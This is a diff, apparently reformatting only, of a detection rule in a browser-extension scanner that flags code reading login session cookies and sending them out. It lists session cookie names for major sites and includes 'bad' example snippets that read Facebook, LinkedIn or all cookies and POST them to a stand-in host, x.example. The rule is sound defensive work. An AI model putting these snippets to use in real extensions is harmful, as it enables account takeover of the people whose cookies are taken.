@@ -5,9 +5,53 @@ import { textsOf } from './network.ts';
 import { leavesBy } from './sendings.ts';
 
 /** Names of the cookies that are a log-in at widely used sites, from their public documentation and published reports. */
-const SESSIONS: ReadonlySet<string> = new Set(['c_user', 'xs', 'auth_token', 'ct0', 'li_at', 'sessionid', 'SAPISID', '__Secure-1PSID', '__Secure-3PSID', '__Secure-1PAPISID', 'SSID', 'HSID', '.ROBLOSECURITY', 'user_session', '__Host-user_session_same_site', 'steamLoginSecure', 'ESTSAUTH', 'ESTSAUTHPERSISTENT', 'at-main', 'sess-at-main', 'JSESSIONID', 'PHPSESSID', 'NetflixId', 'sp_dc', 'reddit_session', 'sid_tt', 'sessionid_ss', 'MUID', '__Secure-next-auth.session-token', 'WHMCS', 'logged_in', 'connect.sid']);
+const SESSIONS: ReadonlySet<string> = new Set([
+  'c_user',
+  'xs',
+  'auth_token',
+  'ct0',
+  'li_at',
+  'sessionid',
+  'SAPISID',
+  '__Secure-1PSID',
+  '__Secure-3PSID',
+  '__Secure-1PAPISID',
+  'SSID',
+  'HSID',
+  '.ROBLOSECURITY',
+  'user_session',
+  '__Host-user_session_same_site',
+  'steamLoginSecure',
+  'ESTSAUTH',
+  'ESTSAUTHPERSISTENT',
+  'at-main',
+  'sess-at-main',
+  'JSESSIONID',
+  'PHPSESSID',
+  'NetflixId',
+  'sp_dc',
+  'reddit_session',
+  'sid_tt',
+  'sessionid_ss',
+  'MUID',
+  '__Secure-next-auth.session-token',
+  'WHMCS',
+  'logged_in',
+  'connect.sid',
+]);
 /** So common as words that they only count beside another one. */
-const COMMON: ReadonlySet<string> = new Set(['xs', 'sessionid', 'auth_token', 'logged_in', 'MUID', 'SSID', 'HSID', 'JSESSIONID', 'PHPSESSID', 'connect.sid']);
+const COMMON: ReadonlySet<string> = new Set([
+  'xs',
+  'sessionid',
+  'auth_token',
+  'logged_in',
+  'MUID',
+  'SSID',
+  'HSID',
+  'JSESSIONID',
+  'PHPSESSID',
+  'connect.sid',
+]);
 
 export const sessionCookiesTaken = defineRule({
   id: 'session-cookies-taken',
@@ -21,37 +65,72 @@ export const sessionCookiesTaken = defineRule({
   why: 'Who has the cookie is logged in, without a password and without a second factor. Extensions that were taken over used exactly this to take business accounts.',
   remedy: 'Do not read cookies that hold a log-in, and never send them. Let requests carry their own cookies.',
   check: checkScripts(function* ({ script, hit }) {
-    const calls = callsOf(script, 'chrome.cookies.getAll', 'chrome.cookies.get', 'chrome.cookies.onChanged.addListener');
+    const calls = callsOf(
+      script,
+      'chrome.cookies.getAll',
+      'chrome.cookies.get',
+      'chrome.cookies.onChanged.addListener',
+    );
     if (calls.length === 0) return;
     const named = namedSessions(script);
     for (const call of calls) {
-      const own = [propertyOf(script, call.args[0] ?? 0, 'name')].map((value) => constant(script, value)).find((name) => name !== undefined && SESSIONS.has(name));
+      const own = [propertyOf(script, call.args[0] ?? 0, 'name')]
+        .map((value) => constant(script, value))
+        .find((name) => name !== undefined && SESSIONS.has(name));
       const out = leavesBy(script, new Set([call.value]), ['network']);
       if (out === undefined) {
-        if (named.length >= 2) yield hit(call.value, { severity: 'medium', confidence: 'medium', message: `Cookies that are a log-in are looked for: ${named.join(', ')}.` });
+        if (named.length >= 2)
+          yield hit(call.value, {
+            severity: 'medium',
+            confidence: 'medium',
+            message: `Cookies that are a log-in are looked for: ${named.join(', ')}.`,
+          });
         continue;
       }
-      const whole = propertyOf(script, call.args[0] ?? 0, 'name') === 0 && propertyOf(script, call.args[0] ?? 0, 'url') === 0;
-      if (own !== undefined || named.length > 0) yield hit(call.value, { message: `${[...new Set([own, ...named])].filter((name) => name !== undefined).join(', ')}: sent to ${out.to}.` });
-      else yield hit(call.value, { severity: 'high', confidence: whole ? 'high' : 'medium', message: `${whole ? 'All cookies of a site or of all sites' : 'A cookie'}: sent to ${out.to}.` });
+      const whole =
+        propertyOf(script, call.args[0] ?? 0, 'name') === 0 && propertyOf(script, call.args[0] ?? 0, 'url') === 0;
+      if (own !== undefined || named.length > 0)
+        yield hit(call.value, {
+          message: `${[...new Set([own, ...named])].filter((name) => name !== undefined).join(', ')}: sent to ${out.to}.`,
+        });
+      else
+        yield hit(call.value, {
+          severity: 'high',
+          confidence: whole ? 'high' : 'medium',
+          message: `${whole ? 'All cookies of a site or of all sites' : 'A cookie'}: sent to ${out.to}.`,
+        });
     }
   }),
   examples: {
     bad: [
-      backgroundExample('chrome.cookies.getAll({ domain: "facebook.com" }, (list) => { const c = list.find((x) => x.name === "c_user"); const x = list.find((y) => y.name === "xs"); fetch("https://x.example/c", { method: "POST", body: JSON.stringify({ c: c.value, x: x.value }) }); });'),
-      backgroundExample('chrome.cookies.get({ url: "https://www.linkedin.com", name: "li_at" }, function (c) { const r = new XMLHttpRequest(); r.open("POST", "https://x.example/s"); r.send(c.value); });'),
-      backgroundExample('async function grab() { const all = await chrome.cookies.getAll({}); await fetch("https://x.example/all", { method: "POST", body: JSON.stringify(all) }); } grab();'),
-      backgroundExample('const names = ["__Secure-1PSID", "SAPISID"]; chrome.cookies.getAll({ domain: ".google.com" }, (l) => keep(l.filter((c) => names.includes(c.name))));'),
+      backgroundExample(
+        'chrome.cookies.getAll({ domain: "facebook.com" }, (list) => { const c = list.find((x) => x.name === "c_user"); const x = list.find((y) => y.name === "xs"); fetch("https://x.example/c", { method: "POST", body: JSON.stringify({ c: c.value, x: x.value }) }); });',
+      ),
+      backgroundExample(
+        'chrome.cookies.get({ url: "https://www.linkedin.com", name: "li_at" }, function (c) { const r = new XMLHttpRequest(); r.open("POST", "https://x.example/s"); r.send(c.value); });',
+      ),
+      backgroundExample(
+        'async function grab() { const all = await chrome.cookies.getAll({}); await fetch("https://x.example/all", { method: "POST", body: JSON.stringify(all) }); } grab();',
+      ),
+      backgroundExample(
+        'const names = ["__Secure-1PSID", "SAPISID"]; chrome.cookies.getAll({ domain: ".google.com" }, (l) => keep(l.filter((c) => names.includes(c.name))));',
+      ),
     ],
     good: [
-      backgroundExample('chrome.cookies.getAll({ domain: "example.com" }, (list) => { for (const c of list) chrome.cookies.remove({ url: "https://example.com" + c.path, name: c.name }); });'),
-      backgroundExample('chrome.cookies.get({ url: "https://app.example.com", name: "lang" }, (c) => { show(c.value); fetch("https://app.example.com/ping"); });'),
+      backgroundExample(
+        'chrome.cookies.getAll({ domain: "example.com" }, (list) => { for (const c of list) chrome.cookies.remove({ url: "https://example.com" + c.path, name: c.name }); });',
+      ),
+      backgroundExample(
+        'chrome.cookies.get({ url: "https://app.example.com", name: "lang" }, (c) => { show(c.value); fetch("https://app.example.com/ping"); });',
+      ),
       backgroundExample('const names = ["c_user", "xs"]; document.cookie.split(";");'),
     ],
   },
 });
 
 function namedSessions(script: ScriptFacts): string[] {
-  const found = textsOf(script).map(({ text }) => text).filter((text) => SESSIONS.has(text));
+  const found = textsOf(script)
+    .map(({ text }) => text)
+    .filter((text) => SESSIONS.has(text));
   return found.some((name) => !COMMON.has(name)) ? found : [];
 }
